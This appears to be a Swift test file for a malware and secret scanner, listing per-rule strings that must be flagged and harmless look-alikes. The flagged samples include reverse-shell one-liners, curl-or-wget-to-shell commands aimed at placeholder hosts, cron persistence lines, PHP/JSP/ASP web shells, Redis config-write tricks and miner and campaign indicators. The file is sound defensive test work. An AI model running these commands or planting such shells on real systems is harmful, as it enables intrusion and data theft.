// For each rule of the program: texts that it must find, and texts that look like them and are none.

import TestSupport
import Testing

/// What one rule must find and what it must not.
struct SignatureCase: Sendable, CustomTestStringConvertible {
  let id: String
  let found: [[UInt8]]
  let leftAlone: [[UInt8]]

  var testDescription: String { id }

  init(_ id: String, found: [String], leftAlone: [String]) {
    self.init(id, bytes: found.map { Array($0.utf8) }, leftAlone: leftAlone.map { Array($0.utf8) })
  }

  init(_ id: String, bytes: [[UInt8]], leftAlone: [[UInt8]]) {
    self.id = id
    found = bytes
    self.leftAlone = leftAlone
  }

  static let sshKey = "AAAAB3NzaC1yc2EAAAADAQABAAABgQ" + String(repeating: "x", count: 40)
  static let jwt =
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.c2lnbmF0dXJlLW9mLW5vdGhpbmc"
  static let letters = String(repeating: "aZ09_-x", count: 8)

  static let all: [SignatureCase] = intrusions + programs + lua + campaigns + secrets

  static let intrusions: [SignatureCase] = [
    SignatureCase(
      "cron-line",
      found: [
        "\n\n*/2 * * * * root cd1 -fsSL http://a.invalid/b.sh | sh\n\n",
        "x\r\n* * * * * /tmp/run\r\n", "\n0 3 * * 1-5 root /usr/bin/true\n",
        "\n@reboot root /tmp/x\n", "\n*\t*\t*\t*\t*\troot\t/tmp/x\n",
      ],
      leftAlone: [
        "*/5 * * * *", "0 */2 * * *", "run at * * * * * and rest", "\n* * * * *\n",
        "\n* * * a list of stars\n", "{\"cron\": \"0 0 * * * sync\"}",
      ]),
    SignatureCase(
      "ssh-key-line",
      found: [
        "\n\nssh-rsa \(sshKey) me@host\n\n", "\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAA\n",
        "\ncommand=\"/bin/sh\" ecdsa-sha2-nistp256 AAAAE2VjZHNhLXNoYTItbmlzdHA\n",
      ],
      leftAlone: ["ssh-rsa \(sshKey)", "\nssh-rsa is a kind of key\n", "\nssh-rsa AAAAtoo\n"]),
    SignatureCase(
      "ssh-public-key",
      found: ["ssh-rsa \(sshKey)", "key=ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAA"],
      leftAlone: ["\nssh-rsa \(sshKey)", "use ssh-rsa or ssh-ed25519", "ssh-rsa BBBB"]),
    SignatureCase(
      "sensitive-path",
      found: ["~redis/.ssh/authorized_keys", "/var/spool/cron/crontabs", "cat /etc/cron.d/x"],
      leftAlone: ["authorized_keys", "/var/spool/mail", "/etc/cronies", "/etc/passwd"]),
    SignatureCase(
      "config-set-dir",
      found: ["config set dir /var/www/html", "CONFIG SET dbfilename shell.php"],
      leftAlone: ["config set maxmemory 1gb", "config get dir", "CONFIG SET dir"]),
    SignatureCase(
      "file-name", found: ["root", "authorized_keys", "shell.php", "exp.so", "X.JSP"],
      leftAlone: ["dump.rdb", "root.rdb", "backup", "php.rdb", "temp-12.so.rdb"]),
    SignatureCase(
      "php-code", found: ["<?php phpinfo(); ?>", "GIF89a<?php\n"],
      leftAlone: ["<?xml version=\"1.0\"?>", "<?phpx", "a file.php"]),
    SignatureCase(
      "php-eval",
      found: [
        "@eval($_POST['c']);", "eval(base64_decode('aGk='))", "system( $_GET[\"cmd\"] )",
        "assert(gzinflate(str_rot13('x')))",
      ],
      leftAlone: [
        "$_GET['page']", "base64_decode($x)", "eval(code)", "medieval($_SERVERS)",
        "echo htmlspecialchars($_GET['q'])",
      ]),
    SignatureCase(
      "jsp-shell",
      found: [
        "<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>",
        "<%@ page import=\"java.io.*\" %><% new FileOutputStream(f) %>",
        "<jsp:scriptlet>new ProcessBuilder(c)</jsp:scriptlet>",
      ],
      leftAlone: [
        "Runtime.getRuntime().freeMemory()", "<%= user.name %>", "java.lang.ProcessBuilder",
      ]
    ),
    SignatureCase(
      "asp-shell",
      found: [
        "<%eval request(\"x\")%>", "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"z\"])%>",
      ],
      leftAlone: [
        "<%= request(\"x\") %>", "eval request(\"x\")", "<script>fetch(request)</script>",
      ]),
    SignatureCase(
      "dev-tcp", found: ["bash -i >& /dev/tcp/192.0.2.1/443 0>&1", "</dev/udp/$h/$p"],
      leftAlone: ["/dev/tcp/", "/dev/tcp is a name", "/dev/tcpip/1/2", "/dev/tcp/host/"]),
    SignatureCase(
      "download-to-shell",
      found: [
        "curl -fsSL http://a.invalid/x.sh | sh", "wget -q -O- a.invalid/x|bash",
        "cd1 -fsSL http://a.invalid | /bin/sh", "curl x.invalid | sudo bash",
        "bash -c \"$(curl -fsSL a.invalid)\"", "bash <(curl -s a.invalid)", "sh -c `wget -O- a.b`",
      ],
      leftAlone: [
        "curl/8.5.0", "Mozilla curl | share", "wget http://a.invalid/x.tar",
        "curl a.invalid | jq .",
        "the curl of a field || shape", "curl a\n| sh",
      ]),
    SignatureCase(
      "download-and-run",
      found: [
        "wget http://a.invalid/x -O /tmp/x; chmod +x /tmp/x", "curl -o x a.invalid && chmod 777 x",
        "curl -o /tmp/i a.invalid;sh /tmp/i",
      ],
      leftAlone: ["curl -o x a.invalid; ls", "chmod +x a; curl b", "wget a.invalid; show it"]),
    SignatureCase(
      "reverse-shell",
      found: [
        "bash -i >& /dev/null", "nc -lvp 4444 -e /bin/sh", "mkfifo /tmp/f; cat /tmp/f|sh|nc h 1",
        "import pty; pty.spawn('/bin/sh')", "sh -i 2>&1",
      ],
      leftAlone: [
        "docker exec sh -i", "rsh -inverse", "mkfifo /run/pipe", "sync -e /bin/x", "nc -z host 80",
      ]),
    SignatureCase(
      "base64-to-shell",
      found: [
        "echo aGk= | base64 -d | bash", "base64 --decode <<< x |python3", "base64 -D x | /bin/sh",
      ],
      leftAlone: [
        "base64 -d file > out", "base64 | show", "data:image/png;base64,iVBOR",
        "base64 -d | shasum",
      ]
    ),
    SignatureCase(
      "shell-in-base64",
      found: [
        "YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMC4yLjEvNDQz", "IyEvYmluL2Jhc2gKZWNobyBoaQo=",
        "IyEvYmluL3NoCg==".replacing("3NoC", with: "2Jhc2gK"), "xL2Rldi90Y3Av",
      ],
      leftAlone: ["aGVsbG8gd29ybGQ=", "L2Rldi9udWxs", "IyEvYmluL2Nh", "YmFzaCBoaXN0b3J5"]),
    SignatureCase(
      "script-body", found: ["#!/bin/sh\necho", "#!/usr/bin/env python3\n", "x\n#!/bin/bash"],
      leftAlone: ["#!lua name=x\n", "see #!/bin/sh", "#!/bin/cat", "#/bin/sh"]),
  ]

  static let programs: [SignatureCase] = [
    SignatureCase(
      "elf-body",
      bytes: [
        [0x7f] + Array("ELF".utf8) + [2, 1, 1, 0], [1, 0x7f] + Array("ELF".utf8) + [1, 2, 1, 3],
      ],
      leftAlone: [
        Array("\u{7f}ELF".utf8), [0x7f] + Array("ELF".utf8) + [9, 9, 9, 9],
        Array("ELF 64-bit".utf8),
      ]),
    SignatureCase(
      "pe-body",
      bytes: [
        Array("MZ".utf8) + [UInt8](repeating: 0x90, count: 126) + Array("PE".utf8) + [
          0, 0, 0x64, 0x86,
        ],
        Array("MZ".utf8) + [UInt8](repeating: 1, count: 62) + Array("PE".utf8) + [0, 0, 0x4c, 1],
      ],
      leftAlone: [
        Array("MZ and PE".utf8) + [0, 0, 0x64, 0x86], Array("PE".utf8) + [0, 0, 0x64, 0x86],
        Array("MZ".utf8) + [UInt8](repeating: 0, count: 100) + Array("PE".utf8) + [0, 0, 0, 0],
      ]),
    SignatureCase(
      "elf-in-base64", found: ["f0VMRgIBAQAAAAAAAAAAAAMAPgABAAAA"],
      leftAlone: [
        "f0VMRg", "af0VMRgIBAQAAAAAAAAAAAAMAPgABAAAA", "f0VMRgZZAQAAAAAAAAAAAAMAPgABAAAA",
      ]),
    SignatureCase(
      "pe-in-base64",
      found: ["TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAA"],
      leftAlone: [
        "TVqQAAMA", "TVqQ", "xTVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAA",
      ]),
    SignatureCase(
      "php-in-base64", found: ["PD9waHAgZWNobyAxOw==", "PD9waHAKZWNobyAxOw=="],
      leftAlone: ["PD9waHBpbmZv", "PD94bWwgdmVyc2lvbg==", "AAPD9waHAgZWNobyAxOw=="]),
  ]

  static let lua: [SignatureCase] = [
    SignatureCase(
      "lua-sandbox-escape",
      found: [
        "local l = package.loadlib('/usr/lib/liblua5.1.so.0', 'luaopen_io')", "luaopen_os",
        "package.loadlib (\"x\", \"y\")",
      ],
      leftAlone: ["package.loaded", "loadlib", "package.loadlib is gone", "luaopen_iox"]),
    SignatureCase(
      "function-system-access",
      found: [
        "return os.execute(args[1])", "io.popen('id')", "debug.getupvalue(f, 1)", "dofile 'x'",
      ],
      leftAlone: [
        "os.clock()", "redis.call('get', k)", "io.openness", "-- no os.execute here", "debug.get",
      ]
    ),
    SignatureCase(
      "lua-bytecode",
      bytes: [[0x1b] + Array("LuaQ".utf8), Array(#"load("\27Lua")"#.utf8)],
      leftAlone: [Array("LuaQ".utf8), [0x1b] + Array("Lua!".utf8), Array("27Lua".utf8)]),
    SignatureCase(
      "unknown-module", found: ["exploit-0", "system---"],
      leftAlone: ["tairhash-", "ReJSON-RL", "MBbloom--", "exstrtype", "vectorset"]),
    SignatureCase(
      "rogue-module",
      found: [
        "system.exec 'id'", "system.rev 192.0.2.1 4444", "/tmp/exp.so", "MODULE LOAD exp_lin.so",
      ],
      leftAlone: ["ecosystem.executor", "export.so", "libexp.so", "system.execute"]),
  ]

  static let campaigns: [SignatureCase] = [
    SignatureCase(
      "key-backup-1-to-4", found: ["backup1", "Backup4"],
      leftAlone: ["backup5", "backup10", "my-backup1", "backup1:x"]),
    SignatureCase(
      "key-crackit", found: ["crackit"],
      leftAlone: ["crackit2", "firecrackit", "crackiit"]),
    SignatureCase(
      "watchdog",
      found: ["http://oracle.zzhreceive.top/b2f628/b.sh", "/cleanfda/init.sh", "cd1 -fsSL x"],
      leftAlone: ["newdat.show", "clean fda", "golden2an.top"]),
    SignatureCase(
      "kinsing", found: ["/tmp/kinsing", "kdevtmpfsi", "kinsing2"],
      leftAlone: ["blinkinsingle", "kinsingle", "devtmpfs"]),
    SignatureCase(
      "migo", found: ["/tmp/.migo"],
      leftAlone: ["amigo", "x.migrate", "/tmp/.migos", ".migo"]),
    SignatureCase(
      "teamtnt", found: ["http://teamtnt.red/x", "TeamTNT was here"],
      leftAlone: ["teamtnt", "chimaera.com", "borg.wtfs"]),
    SignatureCase(
      "miner", found: ["stratum+tcp://pool.invalid:3333", "xmrig --donate-level 1"],
      leftAlone: ["stratum+x", "--donate-levels", "xmrigs"]),
    SignatureCase(
      "ransom-note",
      found: [
        "Send 0.03 BTC to 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa",
        "please pay 1 bitcoin to bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq",
      ],
      leftAlone: ["send 2 BTC to Bob", "BTC 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa", "paying bitcoin"]),
  ]

  static let secrets: [SignatureCase] = [
    SignatureCase(
      "private-key",
      found: ["-----BEGIN RSA PRIVATE KEY-----\nMIIE", "-----BEGIN PRIVATE KEY-----\nMIIE"],
      leftAlone: [
        "-----BEGIN PUBLIC KEY-----\nMIIB", "BEGIN RSA PRIVATE KEY", "-----BEGIN CERTIFICATE-----",
      ]
    ),
    SignatureCase(
      "aws-access-key", found: ["AKIAIOSFODNN7EXAMPLE", "id=ASIAIOSFODNN7EXAMPLE;"],
      leftAlone: ["AKIA", "AKIAiosfodnn7example", "XAKIAIOSFODNN7EXAMPLE", "AKIAIOSFODNN7EXAMPLEX"]),
    SignatureCase(
      "aws-secret-key",
      found: ["aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"],
      leftAlone: ["secret = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", "aws secret key short"]),
    SignatureCase(
      "google-api-key", found: ["AIza" + String(letters.prefix(35))],
      leftAlone: ["AIza", "AIza" + String(letters.prefix(34)), "AIza" + String(letters.prefix(36))]),
    SignatureCase(
      "google-oauth", found: ["ya29." + letters, "GOCSPX-" + String(letters.prefix(28))],
      leftAlone: ["ya29.short", "GOCSPX-", "xya29." + letters]),
    SignatureCase(
      "slack-token",
      found: [
        "xoxb-123456789012-abcdef", "https://hooks.slack.com/services/T000/B000/" + "XXXXXXXXXXXX",
      ],
      leftAlone: ["xoxb-short", "xoxz-123456789012", "hooks.slack.com/services/T0"]),
    SignatureCase(
      "github-token", found: ["ghp_" + String(repeating: "a1", count: 18)],
      leftAlone: ["ghp_short", "ghz_" + String(repeating: "a1", count: 18), "xghp_" + letters]),
    SignatureCase(
      "gitlab-token", found: ["glpat-" + String(repeating: "a1", count: 10)],
      leftAlone: ["glpat-short", "glpat_" + letters]),
    SignatureCase(
      "stripe-key", found: ["sk_live_" + String(repeating: "a1", count: 12)],
      leftAlone: [
        "sk_test_" + String(repeating: "a1", count: 12), "sk_live_x", "task_live_" + letters,
      ]),
    SignatureCase(
      "jwt", found: [jwt, "Bearer " + jwt],
      leftAlone: ["eyJhbGciOiJIUzI1NiJ9", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIi", "x" + jwt]),
    SignatureCase(
      "connection-string",
      found: ["postgres://app:pw@db:5432/x", "redis://:secret@cache", "mongodb+srv://u:p@h/"],
      leftAlone: [
        "postgres://app@db/x", "redis://cache:6379", "https://example.com/a:b@c", "see mysql://",
        "http://[::1]:80/x@y",
      ]),
    SignatureCase(
      "password-field",
      found: ["Server=db;Database=x;User Id=sa;Password=hunter2;", "host=h;uid=u;pwd=x1;Pwd=x"],
      leftAlone: ["password=hunter2", "Server=db;Password=;", "user=x&password=y"]),
    SignatureCase(
      "card-number",
      found: [
        "4111111111111111", "4111 1111 1111 1111", "5500-0000-0000-0004", "378282246310005",
        "card 6011111111111117.",
      ],
      leftAlone: [
        "4111111111111112", "1700000000000000", "41111111111111111", "4111111111111111.5",
        "0000000000000000", "x4111111111111111", "4111 11111111 1111", "-4111111111111111",
      ]),
    SignatureCase(
      "iban",
      found: ["DE89370400440532013000", "GB29 NWBK 6016 1331 9268 19", "to NO9386011117947 now"],
      leftAlone: [
        "DE89370400440532013001", "XX89370400440532013000", "ADE89370400440532013000",
        "DE8937040044",
      ]),
  ]
}
